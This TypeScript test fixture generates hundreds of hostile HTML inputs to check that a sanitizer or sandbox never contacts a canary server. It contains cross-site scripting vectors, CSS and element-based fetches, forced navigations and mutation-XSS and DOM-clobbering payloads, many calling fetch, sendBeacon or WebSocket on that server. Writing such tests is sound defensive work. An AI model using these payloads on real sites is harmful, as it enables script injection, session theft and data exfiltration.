import { inventions } from './hostile-inventions';

/**
 * HTML that tries to run, fetch, navigate, submit, store or reach the app. `hit` is the origin of the server that must
 * never be asked; every attempt carries its name in the path, so that a leak says which one it was.
 */
export function hostileHtml(hit: string): { name: string; html: string }[] {
  return [
    ...scripts(hit),
    ...fetches(hit),
    ...styles(hit),
    ...navigations(hit),
    ...confusions(hit),
    ...inventions(hit),
  ].map(([name, html]) => ({ name, html }));
}

type Attempt = readonly [name: string, html: string];

/** What a script would do, times the ways to get one to run. */
function scripts(hit: string): Attempt[] {
  const actions: Attempt[] = [
    ['fetch', `fetch('${hit}/fetch')`],
    ['beacon', `navigator.sendBeacon('${hit}/beacon')`],
    ['image', `new Image().src='${hit}/image'`],
    ['socket', `new WebSocket('${hit.replace('http', 'ws')}/socket')`],
    ['top navigation', `top.location='${hit}/top'`],
    ['own navigation', `location='${hit}/own'`],
    ['popup', `window.open('${hit}/popup')`],
    ['dialog', `alert(document.domain)`],
    ['parent page', `parent.document.title='pwned'`],
    ['parent script', `parent.pwned=1`],
    ['storage', `localStorage.x=1;document.cookie='x=1'`],
    ['worker', `new Worker(URL.createObjectURL(new Blob(['fetch("${hit}/worker")'])))`],
  ];
  const carriers: [string, (code: string) => string][] = [
    ['script', (code) => `<script>${code}</script>`],
    ['module script', (code) => `<script type=module>${code}</script>`],
    ['image error', (code) => `<img src=x: onerror="${code}">`],
    ['svg load', (code) => `<svg onload="${code}"></svg>`],
    ['svg script', (code) => `<svg><script>${code}</script></svg>`],
    ['svg animation', (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`],
    ['body load', (code) => `<body onload="${code}" onpageshow="${code}">`],
    ['focus', (code) => `<input autofocus onfocus="${code}"><a tabindex=1 autofocus onfocus="${code}">a</a>`],
    ['toggle', (code) => `<details open ontoggle="${code}">a</details>`],
    [
      'animation',
      (code) => `<style>@keyframes k{}</style><p style="animation:k" onanimationstart="${code}">a</p>`,
    ],
    ['media error', (code) => `<video><source onerror="${code}" src=x:></video>`],
    ['frame address', (code) => `<iframe src="javascript:${code}"></iframe>`],
    ['frame document', (code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`],
    ['link address', (code) => `<a href="javascript:${code}">a</a>`],
    ['form address', (code) => `<form action="javascript:${code}"><button>b</button></form>`],
    [
      'object address',
      (code) => `<object data="javascript:${code}"></object><embed src="javascript:${code}">`,
    ],
  ];
  return carriers.flatMap(([carrier, wrap]) =>
    actions.map(([action, code]) => [`${action} by ${carrier}`, wrap(code)] as const),
  );
}

/** Elements that fetch by themselves. */
function fetches(hit: string): Attempt[] {
  const at = (name: string) => `${hit}/${name}`;
  const relations = [
    'stylesheet',
    'icon',
    'preload" as="image',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'manifest',
    'modulepreload',
    'prerender',
    'import',
    'alternate stylesheet',
    'pingback',
  ];
  return [
    ['image', `<img src="${at('img')}">`],
    ['image set', `<img srcset="${at('srcset')} 1x, ${at('srcset2')} 2x" src="${at('img')}" sizes=100vw>`],
    [
      'old image attributes',
      `<img lowsrc="${at('lowsrc')}" dynsrc="${at('dynsrc')}" longdesc="${at('longdesc')}">`,
    ],
    ['picture', `<picture><source srcset="${at('source')}"><img src="${at('picture')}"></picture>`],
    ['input image', `<input type=image src="${at('input')}">`],
    ['video', `<video src="${at('video')}" poster="${at('poster')}" autoplay preload></video>`],
    ['audio', `<audio src="${at('audio')}" autoplay preload></audio>`],
    ['track', `<video src="${at('video')}"><track default src="${at('track')}"></video>`],
    ['embed', `<embed src="${at('embed')}">`],
    ['object', `<object data="${at('object')}"><param name=movie value="${at('param')}"></object>`],
    ['applet', `<applet code="${at('applet')}" archive="${at('archive')}"></applet>`],
    ['frame', `<iframe src="${at('iframe')}"></iframe>`],
    ['frameset', `<frameset><frame src="${at('frame')}"></frameset>`],
    ['portal', `<portal src="${at('portal')}"></portal>`],
    ['fenced frame', `<fencedframe src="${at('fenced')}"></fencedframe>`],
    ['script source', `<script src="${at('script')}"></script>`],
    ['body background', `<body background="${at('body')}">`],
    ['table background', `<table background="${at('table')}"><tr><td background="${at('td')}">a</table>`],
    ['svg image', `<svg><image href="${at('svgimage')}" xlink:href="${at('svgimage2')}"/></svg>`],
    ['svg use', `<svg><use href="${at('use')}#x"/></svg>`],
    [
      'svg filter',
      `<svg><filter id=f><feImage href="${at('feimage')}"/></filter><rect filter="url(#f)"/></svg>`,
    ],
    ['svg style', `<svg><style>@import url(${at('svgstyle')});</style></svg>`],
    ['base', `<base href="${hit}/"><img src="based"><a href="x">a</a>`],
    ['base and link', `<base href="${hit}/"><link rel=stylesheet href=based.css>`],
    ['import map', `<script type=importmap>{"imports":{"x":"${at('importmap')}"}}</script>`],
    ['speculation', `<script type=speculationrules>{"prefetch":[{"urls":["${at('spec')}"]}]}</script>`],
    ['head profile', `<html manifest="${at('manifest')}"><head profile="${at('profile')}">`],
    ['blockquote', `<blockquote cite="${at('cite')}">a</blockquote><del cite="${at('del')}">b</del>`],
    ['background sound', `<bgsound src="${at('bgsound')}">`],
    ['xml island', `<xml src="${at('xml')}"></xml><?xml-stylesheet href="${at('pi')}"?>`],
    [
      'attribution',
      `<img attributionsrc="${at('attribution')}" src=""><a attributionsrc="${at('a')}" href="#">a</a>`,
    ],
    ...relations.map((rel): Attempt => [`link ${rel}`, `<link rel="${rel}" href="${at('link')}">`]),
  ];
}

/** Style that fetches. */
function styles(hit: string): Attempt[] {
  const url = (name: string) => `url(${hit}/${name})`;
  const declarations = [
    `background:${url('bg')}`,
    `background-image:${url('bgi')}`,
    `list-style:${url('ls')};display:list-item`,
    `cursor:${url('cur')},auto`,
    `content:${url('content')}`,
    `border-image:${url('bi')} 30`,
    `mask:${url('mask')}`,
    `-webkit-mask-image:${url('wmask')}`,
    `filter:${url('filter')}`,
    `clip-path:${url('clip')}`,
    `shape-outside:${url('so')};float:left`,
    `background:image-set("${hit}/set" 1x)`,
    `background:-webkit-image-set(${url('wset')} 1x)`,
    `offset-path:${url('offset')}`,
    `background:cross-fade(${url('cf')},red)`,
    `--u:${url('var')};background:var(--u)`,
    `background:u\\72l(${hit}/esc)`,
    `background:URL("${hit}/upper")`,
    `behavior:${url('behavior')}`,
    `-moz-binding:${url('binding')}`,
    `background:/**/${url('comment')}`,
    `background:${url('semi')};;`,
    `background:url(\n"${hit}/newline")`,
    `background:src("${hit}/src")`,
    `width:expression(new Image().src='${hit}/expr')`,
  ];
  const sheets = [
    `@import ${url('import')};`,
    `@import "${hit}/import2";`,
    `@import/**/"${hit}/import3" screen;`,
    `@IMPORT ${url('import4')};`,
    `@font-face{font-family:f;src:${url('font')}}*{font-family:f}`,
    `@namespace x ${url('ns')};`,
    `@layer l{p{background:${url('layer')}}}`,
    `@media all{p{background:${url('media')}}}`,
    `@supports (a:b) or (color:red){p{background:${url('supports')}}}`,
    `@container (width>0){p{background:${url('container')}}}`,
    `@keyframes k{from{background:${url('kf')}}}p{animation:k 1s}`,
    `@property --p{syntax:"<url>";inherits:false;initial-value:${url('prop')}}`,
    `p::before{content:${url('before')}}`,
    `p{&{background:${url('nested')}}}`,
    `p{x:y}} p{background:${url('stray')}}`,
    `<!-- p{background:${url('cdo')}} -->`,
    `@\\69mport ${url('escimport')};`,
    `p[title^=a]{background:${url('attr')}}`,
    `@page{background:${url('page')}}`,
    `@import url("data:text/css,@import url(${hit}/dataimport)");`,
    `:visited{background:${url('visited')}}`,
    `@view-transition{navigation:auto}@starting-style{p{background:${url('start')}}}`,
  ];
  return [
    ...declarations.map((css, index): Attempt => [`style ${index}`, `<p title=a style='${css}'>a</p>`]),
    ...sheets.map((css, index): Attempt => [`sheet ${index}`, `<style>${css}</style><p title=a>a</p>`]),
  ];
}

/** Ways to leave, submit or open. */
function navigations(hit: string): Attempt[] {
  return [
    ['refresh', `<meta http-equiv=refresh content="0;url=${hit}/refresh">`],
    ['refresh to script', `<meta http-equiv=refresh content="0;url=javascript:top.pwned=1">`],
    ['refresh in body', `<p><meta http-equiv="REFRESH" content="0; URL='${hit}/refresh2'"></p>`],
    [
      'csp by meta',
      `<meta http-equiv=Content-Security-Policy content="report-uri ${hit}/csp; img-src 'none'"><img src=x>`,
    ],
    ['cookie by meta', `<meta http-equiv=Set-Cookie content="x=1">`],
    ['referrer by meta', `<meta name=referrer content=unsafe-url><img src="${hit}/referrer">`],
    ...['_self', '_top', '_parent', '_blank', 'lab'].map(
      (target): Attempt => [
        `link ${target}`,
        `<a href="${hit}/link" target="${target}" ping="${hit}/ping" download>a</a>`,
      ],
    ),
    ['base target', `<base target=_top><a href="${hit}/basetarget">a</a>`],
    ['area', `<img usemap=#m src=x><map name=m><area shape=default href="${hit}/area"></map>`],
    ['svg link', `<svg><a href="${hit}/svga" xlink:href="${hit}/svga2"><text y=20>a</text></a></svg>`],
    ['math link', `<math href="${hit}/math"><mi xlink:href="${hit}/math2">a</mi></math>`],
    ...['get', 'post', 'dialog'].map(
      (method): Attempt => [
        `form ${method}`,
        `<form method=${method} action="${hit}/form" target=_top><input name=q value=s><button>b</button></form>`,
      ],
    ),
    [
      'form attributes',
      `<form id=f></form><button form=f formaction="${hit}/formaction">b</button><input type=submit form=f formaction="${hit}/f2">`,
    ],
    ['isindex', `<isindex action="${hit}/isindex" type=image src="${hit}/isindex2">`],
    [
      'popover and invoker',
      `<button popovertarget=p command=show-modal commandfor=p>b</button><dialog id=p open><a href="${hit}/dialog">a</a></dialog>`,
    ],
    ['download', `<a href="data:application/octet-stream,x" download=x.exe>a</a>`],
    ['custom scheme', `<a href="ms-msdt:/id">a</a><iframe src="ms-msdt:/id"></iframe>`],
    [
      'data document',
      `<a href="data:text/html,<script>top.pwned=1</script>">a</a><iframe src="data:text/html,<script>top.pwned=1</script>"></iframe>`,
    ],
  ];
}

/** Markup that parses differently the second time, or that shadows what the page's own script uses. */
function confusions(hit: string): Attempt[] {
  const image = `<img src=x onerror="fetch('${hit}/mxss')">`;
  return [
    ['namespace in style', `<svg></p><style><a id="</style>${image.replaceAll('"', '&quot;')}">`],
    ['math and style', `<math><mtext><table><mglyph><style><!--</style>${image}`],
    [
      'math annotation',
      `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
    ],
    [
      'form nesting',
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
    ],
    ['noscript', `<noscript><p title="</noscript>${image}">`],
    ['title', `<title><p id="</title>${image}"></title>`],
    ['textarea', `<textarea><p id="</textarea>${image}"></textarea>`],
    ['xmp', `<xmp><p id="</xmp>${image}"></xmp>`],
    ['comment end', `<!--><p id="-->${image}">--><!-- --!>${image}`],
    ['conditional comment', `<!--[if gte IE 4]>${image}<![endif]--><![if true]>${image}<![endif]>`],
    ['template', `<template>${image}</template><div><template shadowrootmode=open>${image}</template></div>`],
    ['select', `<select><template><style><!--</template></select>${image}-->`],
    ['plaintext', `<plaintext>${image}`],
    ['CDATA', `<svg><![CDATA[><image xlink:href="${hit}/cdata" />]]>${image}</svg>`],
    [
      'foreign object',
      `<svg><foreignObject><p>${image}<iframe src="${hit}/fo"></iframe></foreignObject></svg>`,
    ],
    ['null bytes', `<scr\0ipt>fetch('${hit}/null')</scr\0ipt><img src=x o\0nerror="fetch('${hit}/null2')">`],
    ['unclosed attribute', `<img src="${hit}/dangling?`],
    ['backticks', `<img src=\`x\`\`onerror=fetch('${hit}/tick')>`],
    ['entities', `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;top.pwned=1">a</a>`],
    [
      'control characters',
      `<a href="\u0001java\u0009script:top.pwned=1">a</a><a href="java&NewLine;script:top.pwned=1">b</a>`,
    ],
    ['utf-7', `+ADw-script+AD4-fetch('${hit}/utf7')+ADw-/script+AD4-`],
    [
      'clobbered names',
      `<img name=body><img name=head><form id=documentElement><input name=attributes></form><a id=adoptedStyleSheets>a</a>`,
    ],
    ['clobbered parent', `<iframe name=parent src="about:blank"></iframe><a id=ports name=source>a</a>`],
    [
      'forged data',
      `<a data-hp-href="javascript:top.pwned=1" data-hp-anchor=x role=link>a</a><div data-hp-quote>q</div>`,
    ],
    ['deep nesting', '<div>'.repeat(5000) + image],
    [
      'many attributes',
      `<p ${Array.from({ length: 3000 }, (_, index) => `a${index}=1`).join(' ')} onclick="fetch('${hit}/attrs')">a</p>`,
    ],
  ];
}
